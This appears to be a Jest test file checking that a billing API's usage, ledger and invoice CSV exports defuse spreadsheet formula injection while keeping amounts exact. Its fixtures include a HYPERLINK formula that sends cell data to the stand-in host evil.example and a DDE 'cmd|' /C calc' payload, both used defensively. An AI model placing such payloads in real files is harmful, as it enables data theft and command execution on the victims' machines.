import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import { parse } from 'csv-parse/sync';
import { ADMIN, drained } from './support/api.js';
import { createAccount, credit, eventId, usageEvent } from './support/factories.js';
import { scratchStack, type Stack } from './support/stack.js';

/**
 * A spreadsheet runs a cell that starts with = + - @ (and, in some, a tab or a carriage return)
 * as a formula. Text that clients chose (event ids, credit references, account names) must reach
 * the CSV exports defused with a leading apostrophe; numbers must reach them exactly as stored.
 */
const STARTERS = ['=', '+', '-', '@', '\t', '\r'];
const PAYLOAD = `HYPERLINK("http://evil.example/?x="&A1,"Click")`;
const REFERENCE = `2+5+cmd|' /C calc'!A0`;

// Its own database: the exports cover whole tables.
let stack: Stack;
const cases: { starter: string; account: string; eventId: string; reference: string }[] = [];
let plain: { account: string; eventId: string };

beforeAll(async () => {
  stack = await scratchStack();
  const { api, queue } = stack;
  const events = [];
  for (const [i, starter] of STARTERS.entries()) {
    const { account_id } = await createAccount(api, { name: `${starter}${PAYLOAD}` });
    const reference = `${starter}${REFERENCE}`;
    await api.http().post(`/v1/accounts/${account_id}/credits`).set(ADMIN).set('Idempotency-Key', `ref-${i}`).send({ amount: '1.5', kind: 'purchase', reference }).expect(201);
    // A negative amount: a number that starts with "-" and must stay exactly as it is.
    await credit(api, account_id, '-0.5', 'adjustment');
    const event = usageEvent(account_id, { event_id: `${starter}${eventId()}`, occurred_at: `2026-11-0${i + 1}T10:00:00Z`, usage: { prompt_tokens: 123, completion_tokens: 7 } });
    events.push(event);
    cases.push({ starter, account: account_id, eventId: event.event_id, reference });
  }
  const { account_id } = await createAccount(api, { name: 'Plain = Sign Ltd' });
  const event = usageEvent(account_id, { occurred_at: '2026-11-20T10:00:00Z' });
  events.push(event);
  plain = { account: account_id, eventId: event.event_id };
  await queue.add('usage-batch', { events });
  await drained(queue);
  await api.http().post('/v1/invoices/generate').set(ADMIN).send({ period: '2026-11' }).expect(200);
});
afterAll(() => stack?.close());

async function csv(path: string): Promise<Record<string, string>[]> {
  const res = await stack.api.http().get(path).set(ADMIN).expect(200);
  return parse(res.text, { columns: true });
}

describe('CSV exports defuse formulas', () => {
  it('usage.csv: an event id starting with any formula character gets a leading apostrophe, costs stay exact', async () => {
    const rows = await csv('/v1/exports/usage.csv?from=2026-11-01T00:00:00Z&to=2026-12-01T00:00:00Z');
    expect(rows).toHaveLength(STARTERS.length + 1);
    for (const { eventId, account } of cases) {
      const row = rows.find((r) => r.account_id === account)!;
      expect(row.event_id).toBe(`'${eventId}`);
    }
    expect(rows.find((r) => r.account_id === plain.account)!.event_id).toBe(plain.eventId);
    const stored: { event_id: string; cost: string }[] = await stack.db.query('SELECT event_id, trim_scale(cost)::text AS cost FROM usage_events ORDER BY occurred_at, event_id');
    expect(rows.map((r) => r.cost)).toEqual(stored.map((s) => s.cost));
    expect(rows.map((r) => r.cost)).toContain('0.00000541');
  });

  it('ledger.csv: a credit reference starting with any formula character gets a leading apostrophe; "-0.5" stays "-0.5"', async () => {
    const rows = await csv('/v1/exports/ledger.csv');
    for (const { account, reference } of cases) {
      const mine = rows.filter((r) => r.account_id === account);
      expect(mine.find((r) => r.credit_kind === 'purchase')!.reference).toBe(`'${reference}`);
      expect(mine.find((r) => r.credit_kind === 'adjustment')).toMatchObject({ amount: '-0.5', balance_after: '1', reference: '' });
      expect(mine.find((r) => r.kind === 'usage')).toMatchObject({ amount: '-0.00000541', balance_after: '0.99999459' });
    }
    const stored: { amount: string; balance_after: string }[] = await stack.db.query('SELECT trim_scale(amount)::text AS amount, trim_scale(balance_after)::text AS balance_after FROM ledger_entries ORDER BY entry_id');
    expect(rows.map((r) => ({ amount: r.amount, balance_after: r.balance_after }))).toEqual(stored);
  });

  it('invoices.csv: an account name starting with any formula character gets a leading apostrophe; amounts and balances stay exact', async () => {
    const rows = await csv('/v1/exports/invoices.csv?period=2026-11');
    for (const { starter, account } of cases) {
      const mine = rows.filter((r) => r.account_id === account);
      expect(mine.length).toBeGreaterThan(0);
      for (const row of mine) expect(row.account_name).toBe(`'${starter}${PAYLOAD}`);
      expect(mine.map((r) => [r.token_class, r.amount])).toEqual([
        ['input', '0.00000492'],
        ['output', '0.00000049'],
      ]);
      expect(mine[0]).toMatchObject({ usage_total: '0.00000541', usage_total_rounded: '0.00', opening_balance: '0' });
    }
    const numbers = ['unit_price_per_million', 'amount', 'usage_total', 'usage_total_rounded', 'opening_balance', 'credits_total', 'closing_balance'];
    const stored: Record<string, string>[] = await stack.db.query(`
      SELECT trim_scale(l.unit_price_per_million)::text AS unit_price_per_million, trim_scale(l.amount)::text AS amount,
        trim_scale(i.usage_total)::text AS usage_total, i.usage_total_rounded::text AS usage_total_rounded,
        trim_scale(i.opening_balance)::text AS opening_balance, trim_scale(i.credits_total)::text AS credits_total,
        trim_scale(i.closing_balance)::text AS closing_balance
      FROM invoices i JOIN invoice_lines l USING (invoice_id) WHERE i.period = '2026-11-01' ORDER BY i.number, l.line_no`);
    expect(rows.map((r) => Object.fromEntries(numbers.map((n) => [n, r[n]])))).toEqual(stored);
    expect(rows.find((r) => r.account_id === plain.account)!.account_name).toBe('Plain = Sign Ltd');
  });
});
